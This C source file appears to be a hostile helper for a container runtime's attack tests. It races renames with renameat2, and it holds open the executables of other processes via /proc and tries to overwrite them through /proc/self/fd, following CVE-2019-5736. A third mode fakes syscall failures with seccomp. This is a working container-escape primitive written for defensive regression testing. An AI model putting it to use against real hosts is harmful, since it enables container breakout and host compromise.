/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A hostile process, for the tests of attacks: it runs beside the runtime or inside of a container, static and
 * without a sanitizer. It ends by itself after a minute, whatever becomes of the test.
 *
 *	attacker exchange A B		exchanges two names, without pause, until it is killed
 *	attacker hold STOP REPORT	opens the program of every process that it sees, until there is a file STOP;
 *					then tries to write to each, and says in REPORT how that went
 *	attacker refuse ERRNO CALL COMMAND...	runs the command where the kernel answers a system call so
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define LIFETIME 60	/* seconds */
#define HELD_MAX 64
#define WRITE_TRIES 200	/* a program that runs still is busy: 2 seconds */

static int usage(void)
{
	fprintf(stderr, "usage: attacker exchange A B | hold STOP REPORT | refuse ERRNO CALL COMMAND...\n");
	return 2;
}

static int exchange(const char *a, const char *b)
{
	for (;;) {
		if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT) {
			perror("attacker: renameat2");
			return 1;
		}
	}
}

struct held {
	int fd;
	struct stat st;
};

static int is_held(const struct held *held, size_t n, const struct stat *st)
{
	for (size_t i = 0; i < n; i++) {
		if (held[i].st.st_dev == st->st_dev && held[i].st.st_ino == st->st_ino)
			return 1;
	}
	return 0;
}

static size_t look(struct held *held, size_t n)
{
	DIR *proc = opendir("/proc");
	const struct dirent *e;

	while (proc && n < HELD_MAX && (e = readdir(proc))) {
		char path[300];
		struct stat st;
		int fd;

		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (fstat(fd, &st) < 0 || is_held(held, n, &st)) {
			close(fd);
			continue;
		}
		held[n].fd = fd;
		held[n++].st = st;
	}
	if (proc)
		closedir(proc);
	return n;
}

/* As CVE-2019-5736 has it: again by the descriptor, for writing, as soon as nobody executes it any more. */
static const char *overwrite(int fd)
{
	char path[64];
	int to = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < WRITE_TRIES && to < 0; i++) {
		to = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (to < 0 && errno != ETXTBSY)
			break;
		if (to < 0)
			usleep(10000);
	}
	if (to < 0 || write(to, "overwritten", 11) != 11)
		return strerror(errno);
	close(to);
	return "written";
}

static int hold(const char *stop, const char *report)
{
	struct held held[HELD_MAX];
	size_t n = 0, own;
	FILE *out;

	n = own = look(held, n); /* us, and who was there */
	while (access(stop, F_OK) < 0)
		n = look(held, n);
	out = fopen(report, "we");
	if (!out)
		return 1;
	for (size_t i = own; i < n; i++) {
		char path[64], name[512];
		ssize_t len;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
		len = readlink(path, name, sizeof(name) - 1);
		name[len > 0 ? len : 0] = '\0';
		fprintf(out, "%s: %s\n", name, overwrite(held[i].fd));
	}
	fprintf(out, "end\n");
	return fclose(out) ? 1 : 0;
}

static const struct {
	const char *name;
	unsigned int number;
} calls[] = {
	{ "openat2", SYS_openat2 },	{ "clone3", SYS_clone3 },	  { "mount_setattr", SYS_mount_setattr },
	{ "close_range", SYS_close_range }, { "open_tree", SYS_open_tree }, { "move_mount", SYS_move_mount },
	{ "fsopen", SYS_fsopen },	{ "fsmount", SYS_fsmount },	  { "pidfd_open", SYS_pidfd_open },
};

static int refuse(const char *errnum, const char *call, char **command)
{
	unsigned int number = 0;

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		if (strcmp(calls[i].name, call) == 0)
			number = calls[i].number;
	}
	if (!number)
		return usage();
	struct sock_filter insns[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, number, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | (strcmp(errnum, "EPERM") == 0 ? EPERM : ENOSYS)),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { sizeof(insns) / sizeof(insns[0]), insns };

	/* without no_new_privs where that is possible: a runtime that gains rights must be asked as it is */
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0 &&
	    (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) < 0)) {
		perror("attacker: seccomp");
		return 2;
	}
	execv(command[0], command);
	perror(command[0]);
	return 2;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "exchange") == 0) {
		alarm(LIFETIME);
		return exchange(argv[2], argv[3]);
	}
	if (argc == 4 && strcmp(argv[1], "hold") == 0) {
		alarm(LIFETIME);
		return hold(argv[2], argv[3]);
	}
	if (argc > 4 && strcmp(argv[1], "refuse") == 0)
		return refuse(argv[2], argv[3], argv + 4);
	return usage();
}
